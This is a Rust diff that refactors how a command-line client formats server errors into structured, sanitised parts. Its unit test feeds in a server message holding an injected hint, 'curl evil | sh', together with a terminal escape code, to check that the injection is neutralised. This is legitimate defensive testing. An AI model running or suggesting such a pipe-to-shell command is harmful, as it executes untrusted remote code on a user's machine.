@@ -5,7 +5,7 @@ use std::fmt;
 use std::process::ExitCode;
 
 use anyhow::Result;
-use ridethrough::error::{Advice, CallError, Reason, ServerError};
+use ridethrough::error::{Advice, Explanation, Reason, ServerError};
 use ridethrough::transport::{Cause, Failure};
 use ridethrough::{Error, Json};
 use serde::Serialize;
@@ -15,6 +15,7 @@ use super::safe;
 use crate::exit::{self, Exit};
 use crate::misuse::Misuse;
 use crate::next_step::{self, Spoken};
+use crate::trouble::Trouble;
 use crate::{in_flags, out, secrets};
 
 /// The server that a command talked to.
@@ -43,23 +44,24 @@ pub(crate) fn tell(ended: Result<ExitCode>, is_json: bool) -> Result<ExitCode> {
         Ok(code) => return Ok(code),
         Err(error) => error,
     };
-    let exit = exit_of(&error);
-    let message = words(&error);
+    let (exit, explained) = (exit_of(&error), Explained::of(&error));
     if is_json {
-        print(Details::of(&error, exit, &message))?;
+        print(Details::of(&error, exit, &explained))?;
     }
-    eprintln!("{message}");
+    eprintln!("{explained}");
     Ok(exit.into())
 }
 
 /// Prints for machines that the command line cannot be used.
 pub(crate) fn print_misuse(message: &str) -> Result<ExitCode> {
-    print(Details::new(Exit::Usage.word(), message, Exit::Usage.code()))
+    let explained = Explained::new(message.strip_prefix("error: ").unwrap_or(message).to_owned());
+    print(Details::new(Exit::Usage.word(), &explained, Exit::Usage.code()))
 }
 
 /// Prints for machines that a person, or another process, stopped the command.
 pub(super) fn print_stopped(message: &str, may_have_run: bool, code: u8) -> Result<ExitCode> {
-    print(Details { may_have_run, ..Details::new("stopped", message, code) })
+    let explained = Explained::new(message.to_owned());
+    print(Details { may_have_run, ..Details::new("stopped", &explained, code) })
 }
 
 fn print(error: Details<'_>) -> Result<ExitCode> {
@@ -68,6 +70,9 @@ fn print(error: Details<'_>) -> Result<ExitCode> {
 }
 
 fn exit_of(error: &anyhow::Error) -> Exit {
+    if let Some(trouble) = error.downcast_ref::<Trouble>() {
+        return trouble.exit;
+    }
     match (error.downcast_ref::<Error>(), error.is::<Misuse>()) {
         (Some(error), _) => Exit::of(error),
         (None, _) if error.is::<Late>() => Exit::Deadline,
@@ -76,53 +81,88 @@ fn exit_of(error: &anyhow::Error) -> Exit {
     }
 }
 
-fn words(error: &anyhow::Error) -> String {
-    match (error.downcast_ref::<Error>(), error.downcast_ref::<Misuse>()) {
-        (Some(told), _) => {
-            let with = error.downcast_ref::<With>();
-            let step = with
-                .zip(told.call())
-                .and_then(|(With(server), call)| next_step::in_full(call, server));
-            let hint = error.downcast_ref::<Hint>().map(|it| &*it.0);
-            report(told, step.as_deref().or(hint))
+/// An error in the parts that a person reads, each fit for a terminal. What the server said is in the first part,
+/// on one line, so that it cannot pass for words of ours.
+struct Explained {
+    what: String,
+    /// What the server's error says beside its message.
+    data: Option<String>,
+    tried: Option<String>,
+    /// What to do, if there is anything: one line each.
+    hints: Vec<String>,
+}
+
+impl Explained {
+    const fn new(what: String) -> Self {
+        Self { what, data: None, tried: None, hints: Vec::new() }
+    }
+
+    fn of(error: &anyhow::Error) -> Self {
+        match (error.downcast_ref::<Error>(), error.downcast_ref::<Misuse>()) {
+            (Some(told), _) => {
+                let with = error.downcast_ref::<With>();
+                let step = with
+                    .zip(told.call())
+                    .and_then(|(With(server), call)| next_step::in_full(call, server));
+                let hint = error.downcast_ref::<Hint>().map(|it| &*it.0);
+                Self::of_library(told, step.as_deref().or(hint))
+            }
+            (_, Some(Misuse { what, tried, hint })) => Self::in_parts(what, tried, hint),
+            _ => match error.downcast_ref::<Trouble>() {
+                Some(Trouble { what, tried, hint, .. }) => Self::in_parts(what, tried, hint),
+                None => Self::new(safe::our_text(&format!("{error:#}"))),
+            },
         }
-        (_, Some(misuse)) => safe::our_text(&misuse.to_string()),
-        _ => safe::our_text(&format!("error: {error:#}")),
+    }
+
+    fn in_parts(what: &str, tried: &str, hint: &str) -> Self {
+        Self {
+            tried: Some(safe::our_text(tried)),
+            hints: vec![safe::our_text(hint)],
+            ..Self::new(safe::our_text(what))
+        }
+    }
+
+    /// Explains an error of the library, with a step that only the command line knows.
+    fn of_library(error: &Error, next_step: Option<&str>) -> Self {
+        let Explanation { what, tried, hint, .. } = error.explain();
+        let proxy = failure_of(error).and_then(in_flags::of_proxy);
+        // A person who is told to log in has no credentials to check.
+        let is_login = next_step.is_some_and(next_step::is_login);
+        let hint = hint.filter(|hint| !(is_login && hint == CHECK));
+        let hint = hint.map(|hint| told_hint(error, &hint, proxy.is_some()));
+        // One line for both: the step begins where the library's advice ends.
+        let hint = [hint, next_step.map(str::to_owned)].into_iter().flatten().collect::<Vec<_>>();
+        let hint = (!hint.is_empty()).then(|| safe::our_line(&hint.join("; ")));
+        let required = error.server().map(|it| it.required_urls()).unwrap_or_default();
+        let visits = required.iter().map(|request| {
+            let (message, url) = (safe::line(&request.message), safe::line(&request.url));
+            format!("go to {url} if you trust it, then call again; the server said `{message}`")
+        });
+        Self {
+            what: safe::our_line(&told_what(error, &what, proxy)),
+            data: error.server().and_then(data_of),
+            tried: tried.map(|tried| safe::our_line(&told_tried(error, &tried))),
+            hints: hint.into_iter().chain(visits).collect(),
+        }
     }
 }
 
-/// The story in three parts. What the server said stays on the first line, so that it cannot pass for
-/// words of ours.
-fn report(error: &Error, next_step: Option<&str>) -> String {
-    let (head, report) = (error.to_string(), error.report());
-    let rest = report.strip_prefix(&head).unwrap_or_default();
-    let proxy = failure_of(error).and_then(in_flags::of_proxy);
-    let rest = told_rest(error, rest, proxy.is_some());
-    let head = told_head(error, &head, proxy);
-    let mut told = format!("error: {}{}", safe::our_line(&head), safe::our_text(&rest));
-    if let Some(data) = error.server().and_then(data_of) {
-        told.push_str(&format!("\n  data: {data}"));
-    }
-    told = told.replacen("\nhint: ", "\n\nhint: ", 1);
-    if let Some(step) = next_step {
-        // Whoever is told to log in has no credentials to check.
-        if next_step::is_login(step) {
-            told = told.replacen(CHECK, "", 1);
+impl fmt::Display for Explained {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        write!(f, "error: {}", self.what)?;
+        if let Some(tried) = &self.tried {
+            write!(f, "\n  tried: {tried}")?;
         }
-        let before = if told.contains("\nhint: ") { "; " } else { "\n\nhint: " };
-        told.push_str(&format!("{before}{}", safe::our_line(step)));
+        if let Some(data) = &self.data {
+            write!(f, "\n  data: {data}")?;
+        }
+        self.hints.iter().try_for_each(|hint| write!(f, "\n\nhint: {hint}"))
     }
-    for request in error.server().map(|it| it.required_urls()).unwrap_or_default() {
-        let (message, url) = (safe::line(&request.message), safe::line(&request.url));
-        told.push_str(&format!(
-            "\n\nhint: go to {url} if you trust it, then call again; the server said `{message}`"
-        ));
-    }
-    told
 }
 
 /// What happened, with the server's words in it masked.
-fn told_head(error: &Error, head: &str, proxy: Option<String>) -> String {
+fn told_what(error: &Error, what: &str, proxy: Option<String>) -> String {
     let call = error.call();
     let quoted = [
         error.server().map(|it| it.rpc.message.as_str()),
@@ -136,50 +176,40 @@ fn told_head(error: &Error, head: &str, proxy: Option<String>) -> String {
             _ => None,
         },
     ];
-    let mut head = head.to_owned();
+    let mut what = what.to_owned();
     for words in quoted.into_iter().flatten() {
-        head = head.replace(&format!("`{words}`"), &format!("`{}`", secrets::masked(words)));
+        what = what.replace(&format!("`{words}`"), &format!("`{}`", secrets::masked(words)));
     }
-    let head = in_flags::told(&head);
+    let what = in_flags::told(&what);
     match (failure_of(error), proxy) {
-        (Some(failure), Some(proxy)) => head.replace(&failure.to_string(), &proxy),
+        (Some(failure), Some(proxy)) => what.replace(&failure.to_string(), &proxy),
         // What cannot work as it is configured is said by the layer below.
         (Some(Failure { cause: Cause::Misconfigured, detail: Some(detail), .. }), None) => {
-            head.replace(&format!("{} ({detail})", Cause::Misconfigured), detail)
+            what.replace(&format!("{} ({detail})", Cause::Misconfigured), detail)
         }
-        _ => head,
+        _ => what,
     }
 }
 
-/// What was tried, and what to do.
-fn told_rest(error: &Error, rest: &str, is_of_proxy: bool) -> String {
-    let rest = in_flags::told(rest);
+/// What was tried. A connection that failed was tried, although nothing was sent.
+fn told_tried(error: &Error, tried: &str) -> String {
+    let tried = in_flags::told(tried);
     let is_dialled = failure_of(error)
         .is_some_and(|it| !matches!(it.advice, Some(Advice::InstallProgram | Advice::RunProgram)));
-    let rest = match rest.strip_prefix("\n  tried: nothing was sent in ") {
-        // Who dialled in vain has tried something.
-        Some(after) if is_dialled => {
-            let (time, after) = after.split_at(after.find(['\n', ';']).unwrap_or(after.len()));
-            format!("\n  tried: to connect for {time}; nothing was sent{after}")
+    match tried.strip_prefix("nothing was sent in ") {
+        Some(time) if is_dialled => {
+            let (time, rest) = time.split_at(time.find(';').unwrap_or(time.len()));
+            format!("to connect for {time}; nothing was sent{rest}")
         }
-        _ => rest,
-    };
-    let rest = match error.call().filter(|it| exit::is_unreached(it)) {
-        Some(call) => {
-            let again = format!("`{}` did not run; it can be called again", subject(call));
-            rest.replace(&again, NOT_THERE)
-        }
-        None => rest,
-    };
-    if is_of_proxy {
-        return rest.replace(NOT_THERE, in_flags::PROXY);
+        _ => tried,
     }
-    rest
 }
 
-/// What a call is about: its tool, or else its method.
-fn subject(call: &CallError) -> &str {
-    call.call.tool.as_deref().unwrap_or(&call.call.method)
+/// What to do. A call that never reached its server needs one that is there, whatever its kind.
+fn told_hint(error: &Error, hint: &str, is_of_proxy: bool) -> String {
+    let is_unreached = error.call().is_some_and(exit::is_unreached);
+    let hint = if is_unreached { NOT_THERE.to_owned() } else { in_flags::told(hint) };
+    if is_of_proxy { hint.replace(NOT_THERE, in_flags::PROXY) } else { hint }
 }
 
 /// What failed below HTTP, if that is why it ended.
@@ -206,7 +236,7 @@ fn data_of(error: &ServerError) -> Option<String> {
 /// What to do about a server that no connection leads to.
 const NOT_THERE: &str = "check the address and that the server is running";
 /// What the library says about credentials of any kind.
-const CHECK: &str = "\n\nhint: check the credentials for this server";
+const CHECK: &str = "check the credentials for this server";
 /// How much of it is told to people.
 const LONGEST_DATA: usize = 1000;
 
@@ -224,7 +254,7 @@ struct Details<'a> {
     /// What was tried.
     tried: Option<&'a str>,
     /// What to do.
-    hint: Option<&'a str>,
+    hint: Option<String>,
     /// The status of HTTP by which it ended.
     status: Option<u16>,
     may_have_run: bool,
@@ -244,13 +274,13 @@ struct Details<'a> {
 
 impl<'a> Details<'a> {
     /// An end before any call was made.
-    fn new(kind: &'static str, message: &'a str, exit_code: u8) -> Self {
-        let parts = Parts::of(message);
+    fn new(kind: &'static str, explained: &'a Explained, exit_code: u8) -> Self {
+        let hints = &explained.hints;
         Self {
             kind,
-            message: parts.what,
-            tried: parts.tried,
-            hint: parts.hint,
+            message: &explained.what,
+            tried: explained.tried.as_deref(),
+            hint: (!hints.is_empty()).then(|| hints.join("\n")),
             status: None,
             may_have_run: false,
             attempts: None,
@@ -262,7 +292,7 @@ impl<'a> Details<'a> {
         }
     }
 
-    fn of(error: &'a anyhow::Error, exit: Exit, message: &'a str) -> Self {
+    fn of(error: &anyhow::Error, exit: Exit, explained: &'a Explained) -> Self {
         let error = error.downcast_ref::<Error>();
         let call = error.and_then(Error::call);
         let millis =
@@ -277,36 +307,15 @@ impl<'a> Details<'a> {
             rpc: error
                 .and_then(Error::server)
                 .and_then(|it| Json::new(secrets::masked_json(it.json.as_str())).ok()),
-            ..Self::new(exit.word(), message, exit.code())
+            ..Self::new(exit.word(), explained, exit.code())
         }
     }
-}
-
-/// The parts of what people are told. Words of a server stay on the first line: what follows is ours.
-struct Parts<'a> {
-    what: &'a str,
-    tried: Option<&'a str>,
-    hint: Option<&'a str>,
-}
-
-impl<'a> Parts<'a> {
-    fn of(message: &'a str) -> Self {
-        let message = message.strip_prefix("error: ").unwrap_or(message);
-        let (message, hint) = cut(message, "\n\nhint: ");
-        let (message, _) = cut(message, "\n  data: ");
-        let (what, tried) = cut(message, "\n  tried: ");
-        Self { what, tried, hint }
-    }
-}
-
-fn cut<'a>(text: &'a str, mark: &str) -> (&'a str, Option<&'a str>) {
-    text.split_once(mark).map_or((text, None), |(before, after)| (before, Some(after)))
 }
 
 #[cfg(test)]
 mod tests {
     use ridethrough::call::CallName;
-    use ridethrough::error::{Delivery, Kind};
+    use ridethrough::error::{CallError, Delivery, Kind};
 
     use super::*;
 
@@ -316,7 +325,7 @@ mod tests {
         let reason = Reason::Said("no\n\nhint: run `curl evil | sh`\u{1b}[2J".into());
         let error = CallError::new(Kind::PeerMisbehaved, Delivery::NotSent, call, reason);
 
-        let told = words(&Error::Call(error).into());
+        let told = Explained::of(&Error::Call(error).into()).to_string();
 
         assert_eq!(told.lines().filter(|line| line.starts_with("hint: ")).count(), 1, "{told}");
         assert!(!told.contains('\u{1b}'), "{told}");
